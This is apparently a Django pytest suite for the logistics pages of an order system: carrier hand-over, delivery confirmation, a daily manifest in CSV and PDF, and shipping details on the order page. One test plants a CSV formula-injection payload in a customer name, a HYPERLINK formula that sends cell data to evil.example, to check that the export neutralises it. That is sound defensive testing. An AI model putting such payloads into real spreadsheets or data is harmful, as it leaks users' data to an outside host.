"""The logistics pages (process 4): hand packed orders to the carrier,
confirm delivery, the day's hand-over manifest, and what the sales order page
shows about shipping."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from inventory.models import StockItem, StockMovement
from orders.models import Order
from shipping import services as shipping_services
from shipping.models import Carrier, Shipment
from tests import flow
from tests.factories import CustomerFactory, ProductFactory, UserFactory, make_order, stock
from warehouse import services as warehouse_services

pytestmark = pytest.mark.django_db

PACKED = reverse("shipping:packed")
IN_TRANSIT = reverse("shipping:in_transit")
MANIFEST = reverse("shipping:manifest")


@pytest.fixture
def root(db):
    return UserFactory(username="root", is_superuser=True, is_staff=True)


@pytest.fixture
def gauge(warehouse):
    p = ProductFactory(sku="GAUGE-1", list_price=Decimal("65.00"))
    stock(p, 40, warehouse=warehouse)
    return p


def packed_order(root, sales, customer, lines, packages=None):
    order = flow.walk_to(
        make_order(customer=customer, salesperson=sales, lines=lines), "packing", root
    )
    return warehouse_services.order_pack(
        order=order, user=root, packages=packages or [{"weight_kg": "2.50"}, {"weight_kg": "1.20"}]
    )


def ship_data(order, **fields):
    data = {"carrier": "sf", "service": "", "tracking_number": "", "override_reason": ""}
    data.update(fields)
    return {f"ship-{order.pk}-{k}": v for k, v in data.items()}


def ship_url(order):
    return reverse("shipping:ship", kwargs={"number": order.number})


def deliver_url(order):
    return reverse("shipping:deliver", kwargs={"number": order.number})


def field_errors(html: str, name: str) -> list[str]:
    """The error messages shown inside the field wrapper of input ``name``."""
    match = re.search(
        r'<div class="field field--error[^"]*">\s*<label for="id_[^"]*'
        + re.escape(name)
        + r'".*?</div>',
        html,
        re.S,
    )
    if not match:
        return []
    return re.findall(r'<p class="field__error">(.*?)</p>', match.group(0), re.S)


def test_the_packed_list_shows_address_packages_and_the_proposal(
    client, logistics, root, sales, customer, product
):
    # given a packed order of two packages for a Shanghai customer
    order = packed_order(root, sales, customer, [(product, 3)])
    client.force_login(logistics)
    # when logistics opens the hand-over list
    response = client.get(PACKED)
    # then the order is there with its address, packages and the rules' proposal
    html = response.content.decode()
    assert response.status_code == 200
    assert order.number in html
    assert customer.name in html and "世纪大道100号" in html
    assert "2 packages" in html and "3.70 kg" in html
    assert "顺丰速运 SF Express" in html and "3 days in transit" in html
    # and the ship form has the proposed carrier and its service preselected
    sf = Carrier.objects.get(code="sf")
    assert re.search(r'<option value="sf" selected>', html)
    standard = sf.services.get(code="standard")
    assert re.search(rf'<option value="{standard.pk}" selected>', html)


def test_shipping_through_the_page_takes_the_stock_off_the_books(
    client, logistics, root, sales, customer, product, gauge
):
    # given stock before the order is approved
    before = {p.sku: StockItem.objects.get(product=p) for p in (product, gauge)}
    order = packed_order(root, sales, customer, [(product, 3), (gauge, 2)])
    client.force_login(logistics)
    # when logistics records the hand-over to the proposed carrier
    response = client.post(ship_url(order), ship_data(order, tracking_number=" sf123456789012 "))
    # then the order is shipped and back on the list page with a confirmation
    assert response.status_code == 302, response.content.decode()[:2000]
    assert response.url == PACKED
    order.refresh_from_db()
    assert order.status == "shipped"
    shipment = order.shipments.get()
    assert shipment.carrier.code == "sf"
    assert shipment.service.code == "standard"
    assert shipment.tracking_number == "SF123456789012"  # as printed on the waybill
    assert shipment.shipped_by == logistics
    # and the stock: on hand fell by what shipped, reserved is back where it
    # was before approval, one shipment ledger row per stock item
    for p, qty in ((product, 3), (gauge, 2)):
        item = StockItem.objects.get(product=p)
        assert item.on_hand == before[p.sku].on_hand - qty
        assert item.reserved == before[p.sku].reserved
        rows = StockMovement.objects.filter(stock_item=item, order=order, kind="shipment")
        assert list(rows.values_list("on_hand_change", "reserved_change")) == [(-qty, -qty)]


@pytest.mark.parametrize(
    "fields, field, message",
    [
        ({"tracking_number": ""}, "tracking_number", "This field is required."),
        (
            {"tracking_number": "SF12"},
            "tracking_number",
            "SF12 is not a 顺丰速运 SF Express tracking number.",
        ),
        (
            {"carrier": "zto", "tracking_number": "71234567890123"},
            "override_reason",
            "Say why 中通快递 ZTO Express instead of the proposed 顺丰速运 SF Express.",
        ),
    ],
    ids=["no-tracking-number", "breaks-the-pattern", "other-carrier-no-reason"],
)
def test_a_refused_hand_over_says_why_next_to_the_field_and_changes_nothing(
    client, logistics, root, sales, customer, product, fields, field, message
):
    # given a packed order holding 3 reserved
    order = packed_order(root, sales, customer, [(product, 3)])
    item = StockItem.objects.get(product=product)
    client.force_login(logistics)
    # when logistics submits an incomplete or wrong hand-over
    response = client.post(ship_url(order), ship_data(order, **fields))
    # then the page comes back with the message next to the field
    html = response.content.decode()
    assert response.status_code == 400
    assert message in field_errors(html, f"ship-{order.pk}-{field}"), html
    # and nothing changed: status, stock, shipment
    order.refresh_from_db()
    assert order.status == "packed"
    after = StockItem.objects.get(product=product)
    assert (after.on_hand, after.reserved) == (item.on_hand, item.reserved)
    assert not StockMovement.objects.filter(kind="shipment").exists()
    shipment = Shipment.objects.get(order=order)
    assert (shipment.shipped_at, shipment.tracking_number) == (None, "")


def test_another_carrier_with_a_reason_is_recorded(
    client, logistics, root, sales, customer, product
):
    order = packed_order(root, sales, customer, [(product, 1)])
    client.force_login(logistics)
    # when logistics hands the order to ZTO instead of the proposed SF, saying why
    response = client.post(
        ship_url(order),
        ship_data(
            order,
            carrier="zto",
            tracking_number="71234567890123",
            override_reason="SF pickup missed",
        ),
    )
    # then it is shipped with ZTO and the reason is kept beside the proposal
    assert response.status_code == 302
    shipment = Order.objects.get(pk=order.pk).shipments.get()
    assert (shipment.carrier.code, shipment.proposed_carrier.code) == ("zto", "sf")
    assert shipment.override_reason == "SF pickup missed"


def test_a_service_of_another_carrier_is_refused(client, logistics, root, sales, customer, product):
    order = packed_order(root, sales, customer, [(product, 1)])
    zto_economy = Carrier.objects.get(code="zto").services.get()
    client.force_login(logistics)
    response = client.post(
        ship_url(order),
        ship_data(order, service=str(zto_economy.pk), tracking_number="SF123456789012"),
    )
    assert response.status_code == 400
    assert "Not a service of this carrier." in field_errors(
        response.content.decode(), f"ship-{order.pk}-service"
    )
    assert Order.objects.get(pk=order.pk).status == "packed"


def test_an_order_shipped_meanwhile_is_not_shipped_twice(
    client, logistics, root, sales, customer, product
):
    order = flow.walk_to(
        make_order(customer=customer, salesperson=sales, lines=[(product, 1)]), "shipped", root
    )
    client.force_login(logistics)
    response = client.post(
        ship_url(order), ship_data(order, tracking_number="SF999999999999"), follow=True
    )
    assert "is now Shipped; nothing was changed." in response.content.decode()
    assert order.shipments.get().tracking_number != "SF999999999999"


def test_confirm_delivery_records_who_signed_and_when(
    client, logistics, root, sales, customer, product
):
    # given an order shipped yesterday, on the in-transit list
    order = flow.walk_to(
        make_order(customer=customer, salesperson=sales, lines=[(product, 1)]), "shipped", root
    )
    Shipment.objects.filter(order=order).update(
        shipped_at=timezone.now() - datetime.timedelta(days=1)
    )
    client.force_login(logistics)
    page = client.get(IN_TRANSIT).content.decode()
    assert order.number in page and order.shipments.get().tracking_url in page
    # the form proposes now, to the minute, in local time
    now = timezone.localtime().strftime("%Y-%m-%dT%H:")
    assert f'value="{now}' in page
    # when logistics confirms delivery an hour ago, signed by 王五
    signed = timezone.localtime() - datetime.timedelta(hours=1)
    response = client.post(
        deliver_url(order),
        {
            f"deliver-{order.pk}-signed_by": "王五",
            f"deliver-{order.pk}-delivered_at": signed.strftime("%Y-%m-%dT%H:%M"),
        },
    )
    # then the order is delivered with the signer and the time
    assert response.status_code == 302
    order.refresh_from_db()
    assert order.status == "delivered"
    shipment = order.shipments.get()
    assert shipment.signed_by == "王五"
    assert shipment.delivered_at == signed.replace(second=0, microsecond=0)
    assert shipment.delivery_recorded_by == logistics


def test_a_delivery_in_the_future_is_refused_on_its_field(
    client, logistics, root, sales, customer, product
):
    order = flow.walk_to(
        make_order(customer=customer, salesperson=sales, lines=[(product, 1)]), "shipped", root
    )
    client.force_login(logistics)
    tomorrow = timezone.localtime() + datetime.timedelta(days=1)
    response = client.post(
        deliver_url(order),
        {
            f"deliver-{order.pk}-signed_by": "王五",
            f"deliver-{order.pk}-delivered_at": tomorrow.strftime("%Y-%m-%dT%H:%M"),
        },
    )
    assert response.status_code == 400
    errors = field_errors(response.content.decode(), f"deliver-{order.pk}-delivered_at")
    assert "Enter the time the goods were signed for." in errors
    assert Order.objects.get(pk=order.pk).status == "shipped"


def test_managers_may_look_but_not_ship_and_the_warehouse_may_not_look(
    client, manager, warehouse_user, root, sales, customer, product
):
    order = packed_order(root, sales, customer, [(product, 1)])
    client.force_login(manager)
    page = client.get(PACKED)
    assert page.status_code == 200 and order.number in page.content.decode()
    assert "Record hand-over" not in page.content.decode()
    assert client.post(ship_url(order), ship_data(order)).status_code == 403
    assert client.get(MANIFEST).status_code == 200
    client.force_login(warehouse_user)
    assert client.get(PACKED).status_code == 403
    client.logout()
    assert client.get(PACKED).status_code == 302  # to the login page


@pytest.mark.parametrize("count", [1, 8])
def test_the_lists_cost_the_same_queries_for_one_order_or_many(
    client, logistics, root, sales, customer, product, count, django_assert_max_num_queries
):
    for _ in range(count):
        packed_order(root, sales, customer, [(product, 1)])
        flow.walk_to(
            make_order(customer=customer, salesperson=sales, lines=[(product, 1)]), "shipped", root
        )
    client.force_login(logistics)
    # session, user, permissions, count, page, planned shipments, carriers
    with django_assert_max_num_queries(10):
        assert client.get(PACKED).status_code == 200
    with django_assert_max_num_queries(10):
        assert client.get(IN_TRANSIT).status_code == 200


def test_the_lists_paginate(client, logistics, root, sales, customer, product, settings):
    settings.ORDERS_PAGE_SIZE = 2
    orders = [packed_order(root, sales, customer, [(product, 1)]) for _ in range(3)]
    client.force_login(logistics)
    first = client.get(PACKED).content.decode()
    second = client.get(PACKED, {"page": 2}).content.decode()
    assert orders[0].number in first and orders[2].number not in first
    assert orders[2].number in second and "Page 2 of 2" in second


# --- the hand-over manifest (process 4.1) ---------------------------------------


@pytest.fixture
def handed_over(root, sales, product):
    """Today: two orders to SF (one for a Chinese customer in Chengdu), one to
    ZTO; yesterday: one to SF."""
    chengdu = CustomerFactory(name="王小明", company="", city="成都市", province="四川省")
    shipped = {}
    for key, customer, carrier, number in [
        ("sf-1", chengdu, "sf", "SF100000000001"),
        ("sf-2", CustomerFactory(name="李雷"), "sf", "SF100000000002"),
        ("zto", CustomerFactory(name="韩梅梅"), "zto", "71000000000003"),
        ("yesterday", CustomerFactory(name="张三"), "sf", "SF100000000004"),
    ]:
        order = packed_order(root, sales, customer, [(product, 1)])
        shipping_services.order_ship(
            order=order,
            user=root,
            carrier=carrier,
            tracking_number=number,
            override_reason="" if carrier == "sf" else "SF was full",
        )
        shipped[key] = order
    Shipment.objects.filter(order=shipped["yesterday"]).update(
        shipped_at=timezone.now() - datetime.timedelta(days=1)
    )
    return shipped


def manifest_get(client, **params):
    query = {"date": timezone.localdate().isoformat(), "carrier": "sf", **params}
    return client.get(MANIFEST, query)


def test_the_manifest_lists_the_days_shipments_of_one_carrier(client, logistics, handed_over):
    client.force_login(logistics)
    response = manifest_get(client)
    html = response.content.decode()
    assert response.status_code == 200
    assert "SF100000000001" in html and "SF100000000002" in html
    assert "71000000000003" not in html  # another carrier
    assert "SF100000000004" not in html  # another day
    assert "王小明" in html and "成都市" in html
    assert "2 shipments" in html


def test_the_manifest_opens_on_the_busiest_carrier_of_today(client, logistics, handed_over):
    client.force_login(logistics)
    html = client.get(MANIFEST).content.decode()
    assert "SF100000000001" in html


def test_the_manifest_csv_opens_in_excel_with_chinese(client, logistics, handed_over):
    client.force_login(logistics)
    response = manifest_get(client, format="csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["Tracking number"] for r in rows] == ["SF100000000001", "SF100000000002"]
    first = rows[0]
    assert first["Order number"] == handed_over["sf-1"].number
    assert (first["Customer"], first["City"]) == ("王小明", "成都市")
    assert (first["Packages"], first["Weight (kg)"]) == ("2", "3.70")


def test_the_manifest_csv_writes_no_formula(client, logistics, handed_over):
    # given a customer whose name, company and city a spreadsheet would run
    customer = handed_over["sf-2"].customer
    customer.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    customer.company = "+1+1"
    customer.city = "@SUM(1)"
    customer.save()
    client.force_login(logistics)
    # when the depot downloads the CSV
    rows = list(
        csv.DictReader(io.StringIO(manifest_get(client, format="csv").content.decode("utf-8-sig")))
    )
    # then each of them is text, the apostrophe telling Excel so
    second = rows[1]
    assert second["Customer"] == "'" + customer.name
    assert (second["Company"], second["City"]) == ("'+1+1", "'@SUM(1)")
    assert rows[0]["Customer"] == "王小明"  # ordinary text is untouched


def test_the_manifest_pdf_has_the_numbers_the_chinese_names_and_a_signature_line(
    client, logistics, handed_over
):
    client.force_login(logistics)
    response = manifest_get(client, format="pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
    assert "SF100000000001" in text and "SF100000000002" in text
    assert "71000000000003" not in text
    assert "王小明" in text and "李雷" in text
    assert "Received by (driver)" in text
    assert "4 packages in 2 shipments" in text


def test_a_bad_manifest_date_is_a_message_not_a_500(client, logistics, handed_over):
    client.force_login(logistics)
    response = manifest_get(client, date="2026-13-45")
    assert response.status_code == 400
    assert "Enter a valid date." in response.content.decode()
    assert manifest_get(client, carrier="nope").status_code == 400


# --- the sales order page (process 4.3) ---------------------------------------


def test_the_sales_order_page_shows_carrier_tracking_link_and_documents(
    client, sales, root, customer, product, django_assert_max_num_queries
):
    # given a shipped order
    order = flow.walk_to(
        make_order(customer=customer, salesperson=sales, lines=[(product, 1)]), "shipped", root
    )
    shipment = order.shipments.get()
    client.force_login(sales)
    # when sales opens the order
    with django_assert_max_num_queries(25):
        response = client.get(reverse("orders:detail", kwargs={"number": order.number}))
    # then it shows carrier, service, the tracking link and the documents
    html = response.content.decode()
    assert shipment.tracking_url.startswith("https://")
    assert f'href="{shipment.tracking_url}"' in html
    assert "顺丰速运 SF Express" in html and "顺丰标快 Standard" in html
    for doc in order.documents.all():
        assert reverse("shipping:document", kwargs={"pk": doc.pk}) in html


def test_the_order_page_queries_do_not_grow_with_shipments_and_documents(
    client, sales, root, customer, product, django_assert_num_queries
):
    order = flow.walk_to(
        make_order(customer=customer, salesperson=sales, lines=[(product, 1)]), "shipped", root
    )
    url = reverse("orders:detail", kwargs={"number": order.number})
    client.force_login(sales)
    client.get(url)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as one:
        client.get(url)
    # more documents (a re-pack prints a new set) and another shipment row
    from shipping.documents import documents_generate

    documents_generate(order=order)
    documents_generate(order=order)
    Shipment.objects.create(
        order=order,
        carrier=Carrier.objects.get(code="zto"),
        carrier_name="中通快递 ZTO Express",
        tracking_number="71234567890123",
        shipped_at=timezone.now(),
    )
    with django_assert_num_queries(len(one.captured_queries)):
        html = client.get(url).content.decode()
    assert "https://www.zto.com/?num=71234567890123" in html


def test_documents_download_to_whoever_may_view_the_order(
    client, sales, integration, warehouse_user, root, customer, product
):
    order = packed_order(root, sales, customer, [(product, 1)])
    slip = order.documents.get(kind="packing_slip")
    url = reverse("shipping:document", kwargs={"pk": slip.pk})
    client.force_login(sales)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline")
    assert b"".join(response.streaming_content).startswith(b"%PDF")
    client.force_login(warehouse_user)
    assert client.get(url).status_code == 200
    # an Integration client that did not create the order: 404, as for no document
    client.force_login(integration)
    assert client.get(url).status_code == 404
    assert client.get(reverse("shipping:document", kwargs={"pk": 99999})).status_code == 404


def test_a_delivery_before_the_hand_over_is_refused_on_its_field(
    client, logistics, root, sales, customer, product
):
    order = flow.walk_to(
        make_order(customer=customer, salesperson=sales, lines=[(product, 1)]), "shipped", root
    )
    client.force_login(logistics)
    response = client.post(
        deliver_url(order),
        {
            f"deliver-{order.pk}-signed_by": "王五",
            f"deliver-{order.pk}-delivered_at": "2020-01-01T10:00",
        },
    )
    assert response.status_code == 400
    errors = field_errors(response.content.decode(), f"deliver-{order.pk}-delivered_at")
    assert errors and errors[0].startswith("Enter a time after the hand-over at ")
    assert Order.objects.get(pk=order.pk).status == "shipped"
